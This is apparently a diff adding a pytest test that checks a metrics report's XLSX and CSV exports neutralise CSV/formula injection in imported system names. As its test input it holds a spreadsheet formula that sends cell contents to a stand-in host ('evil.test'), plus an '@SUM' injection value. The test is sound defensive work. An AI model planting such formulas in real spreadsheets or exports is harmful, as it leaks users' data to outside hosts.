@@ -21,6 +21,7 @@ from metrics.analysis.results import CorrelationStudy, StudyConfig
 from metrics.analysis.scores import ScoreRow
 from metrics.analysis.study import run_study
 from metrics.reporting.bundle import format_for_path, report_bytes, write_report, zip_bytes
+from metrics.reporting.csvfiles import csv_files
 from metrics.reporting.fonts import cjk_family
 from metrics.reporting.latex import escape
 
@@ -170,3 +171,30 @@ def test_without_the_cjk_style_matplotlib_would_warn_about_missing_glyphs() -> N
         figure.add_subplot().set_title("闲聊")
         with pytest.warns(UserWarning, match="missing from font"):
             figure.savefig(io.BytesIO(), format="png")
+
+
+def test_xlsx_and_csv_write_formula_names_as_text_and_numbers_as_numbers() -> None:
+    """An imported system named like a formula stays text in every sheet and CSV (OWASP CSV
+    injection); correlations, negative ones included, stay numbers."""
+    evil = '=HYPERLINK("http://evil.test/?"&A1,"点我")'
+    rng = np.random.default_rng(5)
+    metric, human = [], []
+    for s, system in enumerate((evil, "@SUM(1)", "EVA", "Qwen", "文心")):
+        for item in range(6):
+            quality = s / 3 + rng.normal()
+            human.append(ScoreRow("闲聊", system, "信息量", float(round(quality)), f"d{item}"))
+            metric.append(ScoreRow("闲聊", system, "-BLEU", -quality, f"r{item}"))
+    study = run_study(metric, human, StudyConfig(level="system", methods=("pearson",)))
+    book = load_workbook(io.BytesIO(report_bytes(study, "xlsx")))
+    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
+    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
+    texts = {cell.value for cell in cells if isinstance(cell.value, str)}
+    assert "'" + evil in texts and "'@SUM(1)" in texts and "'-BLEU" in texts
+    assert not [t for t in texts if t.startswith(("=", "+", "@"))]
+    correlation = book["correlations"]["B4"].offset(row=1).value
+    assert isinstance(correlation, float) and correlation < 0
+    for name, text in csv_files(study).items():
+        cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
+        assert not [c for c in cells if c.startswith(("=", "+", "@"))], name
+    systems = list(csv.DictReader(io.StringIO(csv_files(study)["systems.csv"])))
+    assert "'" + evil in {row["system"] for row in systems}
